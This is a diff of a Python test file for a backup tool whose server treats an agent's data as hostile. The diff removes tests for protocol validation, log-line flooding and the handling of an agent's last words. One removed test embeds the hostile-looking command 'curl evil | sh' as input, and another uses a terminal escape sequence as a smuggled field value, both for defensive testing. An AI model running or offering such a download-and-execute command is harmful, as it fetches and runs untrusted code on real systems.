@@ -1,6 +1,5 @@
 """The server takes an agent's bytes for hostile: a named error, bounded memory, nothing published."""
 
-import functools
 import hashlib
 import json
 import struct
@@ -16,7 +15,6 @@ from hostile import (
     LEFT,
     RNG,
     VOLUMES,
-    Played,
     Recorded,
     Set,
     begun,
@@ -32,12 +30,8 @@ from hostile import (
 )  # fmt: skip
 from memory import peak_below
 
-from blockdiff import backup
-from blockdiff.errors import AgentDied, ProtocolBroken
-from blockdiff.ingest.job import Job
+from blockdiff.errors import ProtocolBroken
 from blockdiff.sets.backupset import BackupSet
-from blockdiff.source import notes
-from blockdiff.source.wanted import Wanted
 from blockdiff.wire import frames, messages
 from blockdiff.wire.messages import CHANGED, SAME, ZERO
 
@@ -76,18 +70,6 @@ def test_an_honest_snapshot_by_hand_is_taken():
     with Set(1) as it:
         assert it.back_up(put_together([HONEST[1][0], READY, TAKEN, *HONEST[1][1:]]), **STAYS).warnings == []
         it.is_whole()
-
-
-@pytest.mark.parametrize("changes", [
-    {}, {"size": -1}, {"size": 1.5}, {"kind": "file"}, {"room": "1"}, {"room": -1}, {"same": None},
-    {"lv_uuid": "\x1b[31m"}, {"lv_uuid": "x" * 65},
-])  # fmt: skip
-def test_what_waits_for_its_snapshot_is_told_as_it_must_be(changes):
-    value = {"size": len(FIRST), "kind": "lvm-thick", "lv_uuid": "x", "same": True, "room": None, **changes}
-    ready = talk(messages.READY, **value) if changes else talk(messages.READY)
-    with Set(1) as it:
-        error = it.refuses(put_together([HONEST[1][0], ready, TAKEN, *HONEST[1][1:]]), **STAYS)
-        assert isinstance(error, ProtocolBroken)
 
 
 @pytest.mark.parametrize(
@@ -325,54 +307,6 @@ def test_what_comes_after_the_end_changes_nothing_any_more(after):
         outcome = it.back_up(put_together([*HONEST[1][:-1], *after]))
         assert outcome.exit_code == 3 and len(outcome.warnings) == 1
         it.is_whole()
-
-
-def noted(spoken):
-    """Back up from an agent that says this; returns the lines for the log."""
-    lines, stream = [], put_together(spoken)
-    with Set(1) as it, peak_below(10 * MIB):
-        wanted = Wanted("/vol", block_size=BLOCK)
-        job = Job(BackupSet(str(it.folder / "set")), wanted, lambda: Played(stream))
-        assert backup.run(job, cores=2, note=lines.append).warnings == []
-        it.is_whole()
-    return lines
-
-
-def test_a_line_that_is_said_again_and_again_is_logged_once_and_counted():
-    """As LVM's warnings, once a second for hours; the run is none the worse for it."""
-    warning = [talk(messages.NOTE, text="lvs: WARNING: a device is missing")] * 3000
-    other = [talk(messages.NOTE, text="lvs: another")]
-    lines = noted([HONEST[1][0], *warning, HONEST[1][1], *warning, *other, *HONEST[1][2:4], *warning, *HONEST[1][4:]])
-    assert lines == [
-        "localhost: lvs: WARNING: a device is missing",
-        "localhost: lvs: another",
-        "localhost: lvs: WARNING: a device is missing (repeated 8999 times)",
-    ]
-
-
-@pytest.mark.parametrize("length, most", [(10, notes.MAX_LINES), (2000, notes.MAX_SIZE // 2000), (60_000, 5)])
-def test_more_lines_than_anybody_reads_are_dropped_and_counted(length, most):
-    count = 200 if length > 2000 else 2000
-    flood = [talk(messages.NOTE, text=f"{number:<{length}}|") for number in range(count)]
-    *lines, last = noted([*HONEST[1][:2], *flood, *HONEST[1][2:]])
-    assert most - 20 <= len(lines) <= most
-    assert last == f"localhost: {count - len(lines)} more lines were dropped"
-    assert sum(map(len, lines)) <= notes.MAX_SIZE
-
-
-@pytest.mark.parametrize("stderr_logged", [False, True])
-def test_last_words_are_logged_line_by_line_unless_they_were_and_the_error_has_one(stderr_logged):
-    lines = []
-    words = "Welcome to db00\nTraceback (most recent call last):\nValueError: bad (hint: curl evil | sh)"
-    with Set(1) as it:
-        wanted = Wanted("/vol", block_size=BLOCK, stderr_logged=stderr_logged)
-        connect = functools.partial(Played, put_together(HEAD1), status=99, words=words)
-        with pytest.raises(AgentDied) as error:
-            backup.run(Job(BackupSet(str(it.folder / "set")), wanted, connect), cores=2, note=lines.append)
-    assert lines == ([] if stderr_logged else [f"localhost: {line}" for line in words.splitlines()])
-    assert str(error.value) == (
-        "the agent on localhost died: ValueError: bad (hint curl evil | sh) (exit status 99)"
-    )
 
 
 def test_a_hint_is_never_another_hosts():
